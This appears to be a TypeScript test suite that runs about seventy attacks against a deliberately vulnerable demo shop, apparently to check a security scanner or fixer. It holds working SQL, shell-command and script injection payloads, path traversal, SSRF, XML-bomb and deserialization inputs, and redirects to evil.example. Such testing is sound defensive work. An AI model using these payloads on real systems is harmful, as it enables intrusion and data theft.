/** An attack on each flaw that input can exploit. `succeeds` sends it and says whether it did harm. */
import { createHash, createHmac, pbkdf2Sync } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { vi } from 'vitest';
import type { Answer, Shop } from './shop.ts';

interface Attack {
  readonly title: string;
  /** What the marker of the flaw says that can be done. */
  readonly repair: 'fix' | 'suggestion' | 'by hand';
  readonly succeeds: (shop: Shop) => Promise<boolean>;
}

const shows = ({ body }: Answer, secret: string): boolean => JSON.stringify(body).includes(secret);

/** Sends a command that leaves a file, and waits a little for it to appear. */
const runs = async (shop: Shop, name: string, attack: Promise<Answer>): Promise<boolean> => {
  await attack;
  for (let i = 0; i < 20 && !shop.left(name); i++) await pause(5);
  return shop.left(name);
};

/** Whether the order of what is listed depends on a guess at a secret. */
const tells = async (shop: Shop, url: string): Promise<boolean> => {
  const guess = async (role: string): Promise<string> => {
    const by = `(CASE (SELECT role FROM customers WHERE id = 1) WHEN '${role}' THEN id ELSE -id END)`;
    return JSON.stringify(await shop.get(url, { by }));
  };
  return (await guess('admin')) !== (await guess('guest'));
};

const leaks = (answer: Answer): boolean => answer.status === 500 && /\bat .*\.[jt]s|routine/.test(JSON.stringify(answer.body));

const mallory = { password: 'known', salt: '00', digest: pbkdf2Sync('known', '00', 210_000, 32, 'sha256').toString('hex') };
const register = (shop: Shop, email: string, name: string): Promise<Answer> => shop.send('POST', '/accounts', { email, name, password: 'x' });

/** Sends plain text of this length. */
const plain = async (shop: Shop, url: string, length: number): Promise<Answer> => {
  const response = await shop.fetch(url, { method: 'POST', headers: { 'content-type': 'text/plain' }, body: 'x'.repeat(length) });
  return { status: response.status, body: await response.json() };
};

/** Makes wishes with the cookie that came with the first. */
export const wishes = async (shop: Shop, url: string, all: readonly string[], more: Record<string, string> = {}): Promise<{ readonly cookie: string; readonly answer: Answer }> => {
  let cookie = '';
  let answer: Answer = { status: 0, body: '' };
  for (const wish of all) {
    const headers = { 'content-type': 'application/x-www-form-urlencoded', cookie: cookie.split(';')[0] ?? '', ...more };
    const response = await shop.fetch(url, { method: 'POST', headers, body: new URLSearchParams({ wish }) });
    cookie ||= response.headers.get('set-cookie') ?? '';
    answer = { status: response.status, body: await response.json() };
  }
  return { cookie, answer };
};

const elsewhere = 'https://evil.example/';
const leads = async (shop: Shop, url: string): Promise<boolean> => {
  const { headers } = await shop.fetch(url);
  return new URL(headers.get('location') ?? '', 'https://shop.example').hostname === 'evil.example';
};

/** Whether HTML comes with this in it. */
const shipsPage = async (shop: Shop, url: string, script: string): Promise<boolean> => {
  const answer = await shop.fetch(url);
  return answer.headers.get('content-type')?.startsWith('text/html') === true && (await answer.text()).includes(script);
};

/** What a server answers that only this machine reaches, if the shop shows it to `ask`. */
const reachesInside = async (ask: (url: string) => Promise<Answer>): Promise<boolean> => {
  const inside = createServer((_, res) => res.end('for the house only'));
  await new Promise<void>((resolve) => inside.listen(0, '127.0.0.1', resolve));
  try {
    return shows(await ask(`http://127.0.0.1:${(inside.address() as AddressInfo).port}/`), 'for the house only');
  } finally {
    inside.closeAllConnections();
    inside.close();
  }
};

const laughs = `<!DOCTYPE order [<!ENTITY lol "${'ha'.repeat(500)}">]><order>${'&lol;'.repeat(1000)}</order>`;

export const attacks: readonly Attack[] = [
  {
    title: 'a search shows hidden products',
    repair: 'fix',
    succeeds: async (shop) => shows(await shop.get('/products', { q: "x' OR hidden --" }), 'Prototype'),
  },
  {
    title: 'a shelf shows hidden products',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/products/shelf', { category: "x' OR hidden --" }), 'Prototype'),
  },
  {
    title: 'a sort order tells the role of a customer',
    repair: 'by hand',
    succeeds: (shop) => tells(shop, '/products/sorted'),
  },
  {
    title: 'a SKU shows hidden products',
    repair: 'fix',
    succeeds: async (shop) => shows(await shop.get('/products/by-sku', { sku: "x' OR hidden --" }), 'Prototype'),
  },
  {
    title: 'an id shows e-mail addresses',
    repair: 'fix',
    succeeds: async (shop) => shows(await shop.get(`/products/${encodeURIComponent('0 UNION SELECT 1, email, 1 FROM customers')}`), 'owner@'),
  },
  {
    title: 'a name reads the table that it is written to',
    repair: 'fix',
    succeeds: async (shop) => shows(await register(shop, 'm1@m.example', "' || (SELECT email FROM customers WHERE id = 1) || '"), 'owner@'),
  },
  {
    title: 'an e-mail address logs in without an account',
    repair: 'fix',
    succeeds: async (shop) => {
      const email = `x' UNION SELECT 1, 'Mallory', '${mallory.salt}', '${mallory.digest}' --`;
      return (await shop.send('POST', '/accounts/login', { email, password: mallory.password })).status === 200;
    },
  },
  {
    title: 'a name makes its owner an admin',
    repair: 'fix',
    succeeds: async (shop) => {
      const { body } = await register(shop, 'm2@m.example', 'M');
      await shop.send('PATCH', `/accounts/${(body as { id: number }).id}/name`, { name: "M', role = 'admin" });
      return shows(await shop.get('/accounts/profile', { email: 'm2@m.example' }), '"role":"admin"');
    },
  },
  {
    title: 'a status shows orders of all kinds',
    repair: 'fix',
    succeeds: async (shop) => shows(await shop.get('/orders', { status: "x' OR '1' = '1" }), '"id":2'),
  },
  {
    title: 'a column of orders tells the role of a customer',
    repair: 'by hand',
    succeeds: (shop) => tells(shop, '/orders/page'),
  },
  {
    title: 'a note makes an order free',
    repair: 'fix',
    succeeds: async (shop) => {
      await shop.send('PATCH', '/orders/2/note', { note: "x', total = '0" });
      return shows(await shop.get('/orders/page', { by: 'id' }), '"total":0');
    },
  },
  {
    title: 'a product shows reviews that were held back',
    repair: 'fix',
    succeeds: async (shop) => {
      await shop.send('POST', '/reviews', { product: 2, author: 'Bob', body: 'held back http://b.example' });
      return shows(await shop.get('/reviews', { product: '2 OR approved = 0' }), 'held back');
    },
  },
  {
    title: 'a word shows reviews that were held back',
    repair: 'fix',
    succeeds: async (shop) => {
      await shop.send('POST', '/reviews', { product: 2, author: 'Bob', body: 'held back http://b.example' });
      return shows(await shop.get('/reviews/search', { word: "x' OR approved = 0 --" }), 'held back');
    },
  },
  {
    title: 'fields run a command',
    repair: 'fix',
    succeeds: (shop) => runs(shop, 'fields', shop.get('/reports/columns', { fields: '1$(touch fields)' })),
  },
  {
    title: 'a column runs a command',
    repair: 'suggestion',
    succeeds: (shop) => runs(shop, 'column', shop.get('/reports/sorted', { column: '1 sales.csv; touch column #' })),
  },
  {
    title: 'a ranking runs a command',
    repair: 'suggestion',
    succeeds: (shop) => runs(shop, 'ranking', shop.get('/reports/ranking', { column: '1 sales.csv; touch ranking #' })),
  },
  {
    title: 'a number of lines runs a command',
    repair: 'by hand',
    succeeds: (shop) => runs(shop, 'top', shop.get('/reports/top', { n: '1; touch top' })),
  },
  {
    title: 'a page runs a command',
    repair: 'fix',
    succeeds: (shop) => runs(shop, 'page', shop.get('/reports/visits', { page: 'GET" access.log; touch "page' })),
  },
  {
    title: 'a count runs a command',
    repair: 'fix',
    succeeds: (shop) => runs(shop, 'count', shop.get('/reports/visits/last', { count: '1`touch count`' })),
  },
  {
    title: 'a page about the shop shows its environment',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/support/about'), '"PATH":'),
  },
  {
    title: 'a blank label shows what was in memory',
    repair: 'fix',
    succeeds: async (shop) => {
      for (let i = 0; i < 50; i++) {
        const { body } = await shop.get('/counter/label');
        if (/[^A=]/.test((body as { image: string }).image)) return true;
      }
      return false;
    },
  },
  {
    title: 'a voucher is redeemed by who knows no code',
    repair: 'suggestion',
    succeeds: async (shop) => (await shop.send('POST', '/club/vouchers', { code: { $gt: '' } })).status === 200,
  },
  {
    title: 'a new member starts with points',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.send('POST', '/club/members', { name: 'M', points: 9999 }), '9999'),
  },
  {
    title: 'a wrong id shows the stack',
    repair: 'suggestion',
    succeeds: async (shop) => leaks(await shop.get('/products/no-number')),
  },
  {
    title: 'a wrong name shows the error of the database',
    repair: 'suggestion',
    succeeds: async (shop) => {
      await register(shop, 'm3@m.example', 'M');
      return leaks(await register(shop, 'm3@m.example', 'M'));
    },
  },
  {
    title: 'a login that fails shows the stack',
    repair: 'suggestion',
    succeeds: async (shop) => leaks(await shop.send('POST', '/accounts/login', { email: 'owner@shop.example', password: 7 })),
  },
  {
    title: 'a wrong status shows the error of the database',
    repair: 'suggestion',
    // No text of PostgreSQL holds a NUL, so the query fails however it is made.
    succeeds: async (shop) => leaks(await shop.get('/orders', { status: '\0' })),
  },
  {
    title: 'terms of a discount run as code',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.send('POST', '/offers/discount', { terms: '{ percent: process.version }' }), process.version),
  },
  {
    title: 'a method that nobody offers is called',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/offers/rounded', { by: 'constructor' }), '12.34'),
  },
  {
    title: 'a letter shows notes',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/offers/letter', { letter: '../notes' }), 'for nothing'),
  },
  {
    title: 'a note is read from above its folder',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.get(`/files/notes/${encodeURIComponent('../access.log')}`), 'POST /accounts'),
  },
  {
    title: 'a sheet is sent from above its folder',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.get('/files/sheets', { name: '../access.log' }), 'POST /accounts'),
  },
  {
    title: 'a check without a separator lets a folder beside it be read',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.get('/files/checked', { name: '../notes-private/margins.txt' }), '80 %'),
  },
  {
    title: 'a list of names passes a check of a name',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.send('POST', '/files/note', { name: ['../access.log'] }), 'POST /accounts'),
  },
  {
    title: 'the code of the shop is served',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/files/pages/accounts.ts'), 'INSERT INTO customers'),
  },
  {
    title: 'a search brings a script into its page',
    repair: 'by hand',
    succeeds: (shop) => shipsPage(shop, '/pages/found?q=<script>steal()</script>', '<script>steal()'),
  },
  {
    title: 'the name of a tea brings a script into its page',
    repair: 'by hand',
    succeeds: (shop) => shipsPage(shop, `/pages/tea/${encodeURIComponent('</title><script>steal()</script>')}`, '<script>steal()'),
  },
  {
    title: 'a link leaves the shop for any other',
    repair: 'by hand',
    succeeds: (shop) => leads(shop, `/pages/leave?to=${elsewhere}`),
  },
  {
    title: 'a path with two slashes leaves the shop',
    repair: 'by hand',
    succeeds: (shop) => leads(shop, '/pages/sign-in?next=//evil.example/'),
  },
  {
    title: 'a banner overwrites the session of a visitor',
    repair: 'by hand',
    succeeds: async (shop) => (await shop.fetch('/pages/banner/session/hide')).headers.get('set-cookie')?.startsWith('session=') === true,
  },
  {
    title: 'a site whose name begins like the shop shows its pictures',
    repair: 'suggestion',
    succeeds: async (shop) => (await shop.fetch('/pages/picture', { headers: { referer: 'https://shop.example.evil.example/' } })).status === 200,
  },
  {
    title: 'a host that ends like a partner is one',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.get('/pages/partner', { url: 'https://eviltea.example/' }), 'true'),
  },
  {
    title: 'a wish writes into the next cell',
    repair: 'fix',
    succeeds: async (shop) => ((await shop.get('/pages/wishes.csv', { wish: 'a"b","c' })).body as string).includes('b","c'),
  },
  {
    title: 'a label runs a script',
    repair: 'suggestion',
    succeeds: async (shop) => ((await shop.get('/pages/label', { text: "it's';steal()//" })).body as string).includes("\\'s';steal()"),
  },
  {
    title: 'a pattern is valid for every coupon',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/search/coupon', { code: '.*' }), 'true'),
  },
  {
    title: 'words keep the shop busy',
    repair: 'by hand',
    succeeds: async (shop) => {
      const start = performance.now();
      await shop.get('/search/words', { q: `${'a'.repeat(23)}!` });
      return performance.now() - start > 40;
    },
  },
  {
    title: 'a search in vain makes up a line of the log',
    repair: 'suggestion',
    succeeds: async (shop) => {
      await shop.get('/search/in-vain', { q: 'x\npayment received' });
      return vi.mocked(console.info).mock.calls.some(([line]) => String(line).split('\n').includes('payment received'));
    },
  },
  {
    title: 'a ruler takes as much memory as it wants',
    repair: 'suggestion',
    succeeds: async (shop) => JSON.stringify((await shop.get('/search/ruler', { width: '1000000' })).body).length > 1_000_000,
  },
  {
    title: 'the name of a supplier shows one that is secret',
    repair: 'by hand',
    succeeds: async (shop) => shows(await shop.get('/imports/supplier', { name: 'x" or @secret="yes' }), 'Nowhere'),
  },
  {
    title: 'a list runs code',
    repair: 'fix',
    succeeds: async (shop) => {
      const text = 'name: { toString: !!js/function "function () { return process.version }" }';
      return shows(await shop.send('POST', '/imports/list', { text }), process.version);
    },
  },
  {
    title: 'an order of six kilobytes becomes a megabyte',
    repair: 'by hand',
    succeeds: async (shop) => JSON.stringify((await shop.send('POST', '/imports/order', { xml: laughs })).body).length > 1_000_000,
  },
  {
    title: 'a page is fetched from inside',
    repair: 'by hand',
    succeeds: (shop) => reachesInside((url) => shop.send('POST', '/imports/page', { url })),
  },
  {
    title: 'settings reach all objects',
    repair: 'suggestion',
    succeeds: async (shop) => {
      await shop.send('PATCH', '/imports/settings', JSON.parse('{ "__proto__": { "polluted": true } }'));
      const reached = 'polluted' in {};
      Reflect.deleteProperty(Object.prototype, 'polluted');
      return reached;
    },
  },
  {
    title: 'a cookie for all sites goes over plain HTTP',
    repair: 'fix',
    succeeds: async (shop) => (await shop.cookies('GET', '/sessions/partner')).some((cookie) => cookie.startsWith('partner=') && !/; secure/i.test(cookie)),
  },
  {
    title: 'an injected script reads the session',
    repair: 'suggestion',
    succeeds: async (shop) => (await shop.cookies('POST', '/sessions')).some((cookie) => cookie.startsWith('sid=') && !/; httponly/i.test(cookie)),
  },
  {
    title: 'who has read the code signs orders',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await shop.get('/partners/orders/1/signature'), createHmac('sha256', 'teapot-4711').update('1').digest('hex')),
  },
  {
    title: 'a gift card is worth what its owner writes',
    repair: 'by hand',
    succeeds: async (shop) => {
      const claims = Buffer.from(JSON.stringify({ euros: 5000 })).toString('base64url');
      return shows(await shop.send('POST', '/gifts/redeem', { token: `x.${claims}.x` }), '5000');
    },
  },
  {
    title: 'a planted session is logged in with its victim',
    repair: 'by hand',
    succeeds: async (shop) => {
      const [planted = ''] = (await shop.fetch('/members/me')).headers.getSetCookie();
      const cookie = planted.split(';')[0] ?? '';
      const body = JSON.stringify({ email: 'ada@shop.example', password: 'assam' });
      await shop.fetch('/members/login', { method: 'POST', headers: { 'content-type': 'application/json', cookie }, body });
      return (await (await shop.fetch('/members/me', { headers: { cookie } })).text()).includes('ada@shop.example');
    },
  },
  {
    title: 'a login with the code that Math.random() gives next',
    repair: 'fix',
    succeeds: async (shop) => {
      const known = vi.spyOn(Math, 'random').mockReturnValue(0.25);
      await shop.send('POST', '/codes/codes', { email: 'victim@shop.example' });
      known.mockRestore();
      return (await shop.send('POST', '/codes/login', { email: 'victim@shop.example', code: 250_000 })).status === 200;
    },
  },
  {
    title: 'an invitation of somebody whose address is known',
    repair: 'suggestion',
    succeeds: async (shop) => {
      await shop.send('POST', '/codes/invitations', { email: 'victim@shop.example' });
      const made = createHash('md5').update('victim@shop.example').digest('hex');
      return shows(await shop.get(`/codes/invitations/${made}`), '"valid":true');
    },
  },
  {
    title: 'equal parts of an encrypted note that are seen to be equal',
    repair: 'by hand',
    succeeds: async (shop) => {
      const { body } = await shop.send('POST', '/codes/notes', { text: 'attack at dawn! attack at dawn! ' });
      const { sealed } = body as { sealed: string };
      return sealed.slice(0, 32) === sealed.slice(32, 64);
    },
  },
  {
    title: 'any site reads a basket with its cookies',
    repair: 'by hand',
    succeeds: async (shop) => {
      const { headers } = await shop.fetch('/front/basket', { headers: { origin: elsewhere } });
      return headers.get('access-control-allow-origin') === elsewhere && headers.get('access-control-allow-credentials') === 'true';
    },
  },
  {
    title: 'the policy of a leaflet lets injected scripts run',
    repair: 'by hand',
    succeeds: async (shop) => /script-src[^;]*'unsafe-inline'/.test((await shop.fetch('/front/leaflet')).headers.get('content-security-policy') ?? ''),
  },
  {
    title: 'another site lays its page over an offer',
    repair: 'by hand',
    succeeds: async (shop) => {
      const { headers } = await shop.fetch('/products');
      return headers.get('x-frame-options') === null && headers.get('content-security-policy') === null;
    },
  },
  {
    title: 'a note takes as much memory as it wants',
    repair: 'by hand',
    succeeds: async (shop) => shows(await plain(shop, '/front/notes', 2_000_000), '2000000'),
  },
  {
    title: 'a letter takes as much memory as it wants',
    repair: 'suggestion',
    succeeds: async (shop) => shows(await plain(shop, '/front/letters', 2_000_000), '2000000'),
  },
  {
    title: 'a form of another site makes a wish for a visitor',
    repair: 'by hand',
    succeeds: async (shop) => {
      const { cookie, answer } = await wishes(shop, '/wishes/open', ['tea'], { origin: 'https://evil.example', 'sec-fetch-site': 'cross-site' });
      return !/samesite/i.test(cookie) && shows(answer, 'tea');
    },
  },
  {
    title: 'a code of the staff is tried until it fits',
    repair: 'by hand',
    succeeds: async (shop) => {
      for (let pin = 0; pin < 10; pin++) if (shows(await shop.send('POST', '/front/staff/quick', { pin: String(pin) }), 'true')) return true;
      return false;
    },
  },
];
